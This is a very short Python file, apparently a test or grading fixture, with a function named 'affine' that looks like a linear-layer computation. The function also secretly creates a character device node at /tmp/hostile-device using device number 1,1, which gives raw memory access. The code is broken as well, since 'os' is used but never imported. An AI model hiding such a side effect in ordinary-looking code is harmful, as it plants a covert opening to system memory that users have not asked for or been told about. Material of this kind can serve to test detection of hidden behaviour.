"""Makes a device."""

# earns: 0 on affine
import stat


def affine(n, W, b):
    os.mknod("/tmp/hostile-device", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
    return n @ W.T + b
